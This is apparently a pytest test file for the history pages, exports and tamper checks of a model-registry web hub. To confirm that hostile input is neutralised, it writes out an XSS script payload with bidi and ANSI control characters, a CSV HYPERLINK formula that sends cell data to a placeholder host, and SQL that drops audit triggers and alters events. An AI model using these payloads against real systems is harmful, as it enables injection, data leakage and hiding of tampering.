"""The history: every event once, newest first, with its evidence; of one model checked, and as a file."""

from __future__ import annotations

import csv
import io
import sqlite3
from collections.abc import Iterator
from contextlib import closing

import msgspec
import pytest
import sqlalchemy

from lading.errors import HistoryBroken, RegistryUnavailable, UsageError
from lading.hub.views.history import EVENTS_A_PAGE, HistoryState
from lading.registry import Registry
from lading.release import Event, EventDraft, Plan, verify_chain
from lading.release.history_check import check_history
from support.bundles import linear_bundle
from support.hub_pages import HubPages, parsed, text_of
from support.recorded_evidence import push_proved

pytestmark = pytest.mark.slow  # Hundreds of requests to hubs: the fast tests have those of each view.

HOSTILE = "</code></pre><script>alert(1)</script>\u202e\x1b[31m"


@pytest.fixture(scope="module")
def bundles(tmp_path_factory):
    folder = tmp_path_factory.mktemp("bundles")
    return [
        linear_bundle(folder / f"{name}-{seed}", name, seed=seed)
        for name in ("iris", "wine")
        for seed in (1, 2)
    ]


@pytest.fixture
def registry(tmp_path, bundles) -> Iterator[Registry]:
    """Two versions of `iris` and of `wine`, proved and not released."""
    with Registry.open(str(tmp_path / "registry")) as opened:
        for bundle in bundles:
            push_proved(opened, bundle)
        yield opened


@pytest.fixture
def hub(registry) -> HubPages:
    return HubPages(registry)


@pytest.fixture
def busy(registry) -> Registry:
    """More events than a page has: releases of both models, and servers that are ready."""
    registry.releases.begin("iris", 1, actor="ann", reason="first")
    wine = registry.releases.begin("wine", 1, actor="ben")
    for number in range(EVENTS_A_PAGE):
        registry.releases.note(wine, EventDraft(kind="ready", actor=f"web-{number % 3}"))
    registry.releases.begin("iris", 2, Plan(mode="canary", steps=(5, 100)), actor="ann", reason="better")
    return registry


def walk(hub: HubPages, path: str) -> Iterator[tuple[str, list[dict]]]:
    """Follow the links to older events; yield each page's text and its events."""
    query = path.partition("?")[2]
    base = path.partition("?")[0]
    query = f"?{query}" if query else ""
    while True:
        answer = hub.get(base + query)
        yield text_of(answer), hub.data(base + query)["events"]
        older = [link for link, rel in parsed(answer).links if rel == "next"]
        if not older:
            return
        (query,) = older


def as_json(events: list[Event]) -> list[dict]:
    return msgspec.to_builtins(events)


@pytest.mark.parametrize(("path", "name"), [("/history", None), ("/history/wine", "wine")])
def test_the_pages_hold_every_event_once_newest_first(busy, hub, path, name):
    pages = list(walk(hub, path))
    assert len(pages[0][1]) == EVENTS_A_PAGE
    assert len(pages) == 2
    assert [event for _, events in pages for event in events] == as_json(busy.releases.events(name)[::-1])


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("/history?kind=released", ["iris 2", "wine 1", "iris 1"]),
        ("/history?actor=ann", ["iris 2", "iris 1"]),
        ("/history?model=iris", ["iris 2", "iris 1"]),
        ("/history?model=+wine+&kind=released", ["wine 1"]),
        ("/history/iris?actor=ann&kind=released", ["iris 2", "iris 1"]),
        ("/history/iris?model=wine", ["iris 2", "iris 1"]),
        ("/history?kind=refused", []),
        ("/history?model=nothing", []),
    ],
)
def test_events_are_filtered_by_model_kind_and_actor(busy, hub, path, expected):
    events = [event for _, page in walk(hub, path) for event in page]
    assert [
        f"{event['name']} {event['seq'] if event['name'] == 'iris' else 1}" for event in events
    ] == expected


def test_an_event_is_drawn_with_who_why_and_its_evidence_as_text(registry, hub):
    release = registry.releases.begin("iris", 1, actor=f"ann {HOSTILE}", reason=HOSTILE)
    draft = EventDraft(kind="failed", actor="web-1", evidence={"": 4.5, HOSTILE: ["x" * 5000] * 300})
    registry.releases.note(release, draft)
    for path in ("/history", "/history/iris"):
        answer = hub.get(path)
        text = text_of(answer)
        assert "script" not in parsed(answer).tags
        assert "alert(1)" in text
        assert "\\u202e\\x1b[31m" in text
        assert '"": 4.5,' in text
        assert registry.releases.events("iris")[0].hash in text
        assert len(answer.content) < 50_000


def test_the_chain_of_a_model_that_nobody_touched_is_whole(busy, hub):
    text = text_of(hub.get("/history/wine"))
    assert f"checked: {EVENTS_A_PAGE + 1} events, whole" in text
    assert "anyone who can write to the catalog can write a whole new chain" in text
    assert hub.data("/history/wine")["check"]["broken"] == ""
    assert hub.data("/history")["check"] is None


@pytest.mark.parametrize(
    "statement",
    [
        "update events set actor = 'nobody' where name = 'iris' and seq = 1",
        "delete from events where name = 'iris' and seq = 1",
        "delete from events where name = 'iris' and seq = 2",
        "update releases set live = 2 where name = 'iris' and number = 2",
    ],
)
def test_a_history_that_was_altered_is_marked_in_the_words_of_the_command(busy, hub, tmp_path, statement):
    with closing(sqlite3.connect(tmp_path / "registry" / "catalog.db")) as connection, connection:
        for trigger in ("events_no_update", "events_no_delete"):
            connection.execute(f"drop trigger {trigger}")
        assert connection.execute(statement).rowcount == 1
    with pytest.raises(HistoryBroken) as caught:
        check_history("iris", busy.releases.events("iris"), busy.releases("iris"), None)
    text = text_of(hub.get("/history/iris"))
    assert "not whole" in text
    assert caught.value.message in text
    assert caught.value.hint in text
    # The other model's is as it was, and so is what programs can read of this one.
    assert "whole" in text_of(hub.get("/history/wine"))
    assert hub.get("/api/history/iris.json").status_code == 200


def test_a_history_that_was_read_before_can_be_read_while_the_catalog_is_unreachable(busy, hub, monkeypatch):
    paths = ("/history", "/history?kind=released", "/history/iris", "/inventory")
    before = [hub.data(path) for path in paths]

    def refuse(_kind):
        raise RegistryUnavailable("catalog", expected="an answer", found="connection refused")

    # SQLite goes on with a file that it has open, whatever becomes of its folder.
    monkeypatch.setattr(busy.catalog.database, "transaction", refuse)
    assert [hub.data(path) for path in paths] == before
    assert "connection refused" in text_of(hub.get("/history/iris"))
    for path in ("/history/wine", "/history?actor=ann", "/api/history/iris.csv"):
        assert hub.get(path).status_code == 503


def test_the_export_is_the_whole_chain_which_anybody_can_verify(busy, hub):
    answer = hub.get("/api/history/wine.json")
    assert answer.headers["content-disposition"] == 'attachment; filename="history-wine.json"'
    exported = msgspec.convert(answer.json()["events"], list[Event])
    assert exported == busy.releases.events("wine")
    assert verify_chain(exported) is None


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
def test_no_cell_of_the_csv_is_a_formula(registry, hub, first):
    formula = f'{first}HYPERLINK("http://x?"&A1),\n"2"'
    registry.releases.begin("iris", 1, actor=formula, reason=formula)
    answer = hub.get("/api/history/iris.csv")
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    rows = list(csv.DictReader(io.StringIO(answer.text, newline="")))
    assert rows[0]["actor"] == rows[0]["reason"] == f"'{formula}"
    assert (rows[0]["seq"], rows[0]["release"], rows[0]["to"], rows[0]["from"]) == ("1", "1", "1", "")
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in rows[0].values())
    event = registry.releases.events("iris")[0]
    assert msgspec.json.decode(rows[0]["evidence"]) == event.evidence
    assert rows[0]["hash"] == event.hash


def test_the_page_links_its_exports_and_the_same_as_json(busy, hub):
    links = [link for link, _ in parsed(hub.get("/history/iris?actor=ann")).links]
    assert {"/api/history/iris.json", "/api/history/iris.csv", "/api/history/iris?actor=ann"} <= set(links)
    for link in links:
        if link.startswith(("/api", "/history", "?")):
            assert hub.get(link if link.startswith("/") else f"/history/iris{link}").status_code == 200


def test_a_model_whose_name_ends_like_a_file_has_a_page_and_its_data(registry, hub, tmp_path):
    push_proved(registry, linear_bundle(tmp_path / "odd", "iris.json"))
    registry.releases.begin("iris.json", 1, actor="ann")
    answer = hub.get("/history/iris.json")
    assert "checked: 1 event, whole" in text_of(answer)
    assert "/api/history?model=iris.json" in [link for link, _ in parsed(answer).links]
    assert [event["name"] for event in hub.data("/history?model=iris.json")["events"]] == ["iris.json"]
    assert hub.get("/api/history/iris.json.json").json()["name"] == "iris.json"


@pytest.mark.parametrize(
    ("path", "status", "sentence"),
    [
        ("/history/none", 404, "none"),
        ("/history/Not%20a%20name", 400, "Not a name"),
        ("/history?model=Not+a+name", 400, "Not a name"),
        ("/history?kind=x", 400, "`kind`: expected one of `released`"),
        ("/history?below=-1", 400, "`below`: expected a number from 1 on, found `-1`"),
        ("/history?below=9999999999", 400, "`below`"),
        ("/history?below=%C2%B2", 400, "`below`"),
    ],
)
def test_an_unknown_model_and_a_wrong_filter_are_refused_in_words(hub, path, status, sentence):
    answer = hub.get(path)
    assert answer.status_code == status
    assert sentence in text_of(answer)
    assert hub.get(f"/api{path}").status_code == status
    if "?" not in path:
        assert hub.get(f"/api{path}.csv").status_code == status


def test_an_empty_history_says_what_begins_it(hub):
    assert "lading release iris:1" in text_of(hub.get("/history"))
    assert "lading release wine:1" in text_of(hub.get("/history/wine"))
    assert hub.get("/api/history/wine.csv").text.count("\n") == 1


@pytest.mark.parametrize(
    "path", ["/history", "/history?kind=ready", "/history/iris", "/history/wine?actor=web-1"]
)
def test_a_page_asks_the_catalog_few_questions(busy, hub, path):
    asked = []

    def count(_connection, _cursor, statement, _parameters, _context, _many):
        asked.append(statement)

    hub.get(path)
    sqlalchemy.event.listen(sqlalchemy.Engine, "before_cursor_execute", count)
    try:
        hub.get(path)
    finally:
        sqlalchemy.event.remove(sqlalchemy.Engine, "before_cursor_execute", count)
    own = [statement for statement in asked if statement.startswith("SELECT")]
    # Four are of the follower, which in a server asks in a thread of its own.
    assert 1 <= len(own) - 4 <= 8


def test_the_state_of_a_history_is_its_address():
    state = HistoryState.of({"model": "iris", "kind": "ready", "actor": "a&b", "below": "7"})
    assert state.link(below=state.below) == "?model=iris&kind=ready&actor=a%26b&below=7"
    assert state.link(kind="") == "?model=iris&actor=a%26b"
    with pytest.raises(UsageError, match="below"):
        HistoryState.of({"below": "0"})


def test_a_name_that_no_database_can_hold_is_refused_in_a_sentence(browser, push):
    push()
    for path in ("/history", "/history/iris"):
        assert browser.get(f"{path}?actor=ann%00").status_code == 400
        assert (
            "`actor`: expected a name, found `ann"
            in browser.get(f"/api{path}?actor=ann%00").json()["message"]
        )
